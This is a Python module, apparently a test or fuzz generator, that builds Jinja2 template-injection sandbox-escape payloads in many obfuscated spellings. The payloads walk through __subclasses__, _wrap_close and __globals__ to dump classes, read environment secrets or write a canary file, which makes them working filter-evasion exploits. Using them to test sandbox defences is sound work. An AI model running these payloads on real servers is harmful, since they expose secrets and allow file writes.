"""Walks from each value that a template can get hold of to what lies outside, spelled in all ways of the language."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from typing import TypeAlias

ROOTS = (
    *("text", "''", "items", "data", "()", "(1)", "(1.5)", "true", "none", "missing", "range(3)", "range", "dict"),
    *("cycler", "cycler('a')", "joiner('a')", "namespace(a=1)", "self", "now", "today", "(now - now)", "text.upper"),
    *("data.items()", "(items | map('string'))", "(items | batch(1))", "('[]' | from_json)"),
)
"""What a template can get hold of."""
MODULES = ("cycler", "joiner", "namespace", "cycler('a')", "lipsum", "self")
"""What comes from a module that imports others."""

Spelling: TypeAlias = "Callable[[str, str], str]"


def _escaped(escape: Callable[[str], str]) -> Spelling:
    return lambda value, name: f"{value}['{''.join(map(escape, name))}']"


def _halved(form: str) -> Spelling:
    return lambda value, name: f"{value}[{form % (name[:4], name[4:])}]"


def _made(form: str, change: Callable[[str], str] = str) -> Spelling:
    return lambda value, name: f"{value}[{form % change(name)}]"


def _piped(form: str) -> Spelling:
    return lambda value, name: f"({form.replace('VALUE', value).replace('NAME', name)})"


SPELLINGS: Mapping[str, Mapping[str, Spelling]] = {
    "dunder walk": {
        "dot": lambda value, name: f"{value}.{name}",
        "subscript": _made("'%s'"),
        "wide letter": lambda value, name: f"{value}.{name[:2]}{chr(ord(name[2]) + 0xFEE0)}{name[3:]}",
    },
    "attr filter": {
        "attr": _piped("VALUE | attr('NAME')"),
        "attr of hexadecimal": _piped("VALUE | attr('\\x5f\\x5f' ~ 'NAME'[2:])"),
        "map of attr": _piped("[VALUE] | map('attr', 'NAME') | first"),
    },
    "attribute arguments": {
        "map": _piped("[VALUE] | map(attribute='NAME') | first"),
        "groupby": _piped("([VALUE] | groupby('NAME') | first)[0]"),
        "sum": _piped("[VALUE] | sum(attribute='NAME', start='')"),
        "join": _piped("[VALUE] | join(attribute='NAME')"),
        "pluck": _piped("[VALUE] | pluck('NAME') | first"),
    },
    "format": {
        "field": lambda value, name: f"'{{0.{name}}}'.format({value})",
        "item": lambda value, name: f"'{{0[{name}]}}'.format({value})",
        "named field": lambda value, name: f"'{{a.{name}!r}}'.format(a={value})",
        "mapping": lambda value, name: f"'{{a.{name}}}'.format_map({{'a': {value}}})",
        "by map": _piped("[VALUE] | map('{0.NAME}'.format) | first"),
        "nested field": lambda value, name: f"'{{:{{0.{name}}}}}'.format({value})",
    },
    "built names": {
        "hexadecimal": _escaped(lambda letter: f"\\x{ord(letter):02x}"),
        "octal": _escaped(lambda letter: f"\\{ord(letter):03o}"),
        "unicode": _escaped(lambda letter: f"\\u{ord(letter):04x}"),
        "long unicode": _escaped(lambda letter: f"\\U{ord(letter):08x}"),
        "named letters": _escaped(lambda letter: "\\N{LOW LINE}" if letter == "_" else letter),
        "adjacent": _halved("'%s' '%s'"),
        "tilde": _halved("'%s' ~ '%s'"),
        "plus": _halved("'%s' + '%s'"),
        "join": _halved("['%s', '%s'] | join"),
        "join method": _halved("''.join(['%s', '%s'])"),
        "percent": _halved("'%%s%%s' %% ('%s', '%s')"),
        "format method": _halved("'{}{}'.format('%s', '%s')"),
        "format filter": _halved("'%%s%%s' | format('%s', '%s')"),
        "sum": _halved("['%s', '%s'] | sum(start='')"),
        "backwards": _made("'%s'[::-1]", lambda name: name[::-1]),
        "reverse": _made("'%s' | reverse", lambda name: name[::-1]),
        "lower": _made("'%s' | lower", str.upper),
        "swapcase": _made("'%s'.swapcase()", str.swapcase),
        "replace": _made("'%s' | replace('-', '_')", lambda name: name.replace("_", "-")),
        "replace method": _made("'%s'.replace('.', '')", ".".join),
        "trim": _made("' %s ' | trim"),
        "slice": _made("'xx%syy'[2:-2]"),
        "item": _made("('%s',) | first"),
        "field": _made("{'k': '%s'}.k"),
        "json": _made("'\"%s\"' | from_json", lambda name: "".join(f"\\\\u{ord(letter):04x}" for letter in name)),
        "striptags": _made("'<b>%s</b>' | striptags"),
        "split": _made("'a %s b'.split()[1]"),
        "default": _made("missing | default('%s')"),
        "repeated": _made("('_' * 2) ~ '%s' ~ '_' * 2", lambda name: name.strip("_")),
        "condition": _made("'%s' if true else 'x'"),
        "cycler": _made("cycler('%s').next()"),
        "namespace": _made("namespace(k='%s').k"),
    },
}
"""How a step from a value to one of its attributes can be written, by family of payloads."""

_CLOSER = "(%s | selectattr('__name__', 'equalto', '_wrap_close') | first).__init__.__globals__"
ENDS = (
    "%s",
    f"{_CLOSER}['environ']['VARIABLE']",
    f"{_CLOSER}['__builtins__']['open']('CANARY', 'w').write('x')",
)
"""What becomes of a list of all classes: it is shown, it leads to a secret, it leads to a file that is written."""
MODULE_ENDS = (
    "%s",
    "%s['os']['environ']['VARIABLE']",
    "%s['__builtins__']['open']('CANARY', 'w').write('x')",
)


def walks(family: str) -> Iterator[str]:
    """Yield the walks of one family, as expressions."""
    if family == "globals":
        for steps in SPELLINGS.values():
            for step in steps.values():
                for number, root in enumerate(MODULES):
                    yield MODULE_ENDS[number % len(MODULE_ENDS)] % step(step(root, "__init__"), "__globals__")
    for step in SPELLINGS.get(family, {}).values():
        for number, root in enumerate(ROOTS):
            yield _walk(root, step, ENDS[number % len(ENDS)]) if family != "format" else step(root, "__class__")


def _walk(root: str, step: Spelling, end: str) -> str:
    ancestors = step(step(root, "__class__"), "__mro__")
    return end % f"{step(f'({ancestors} | last)', '__subclasses__')}()"
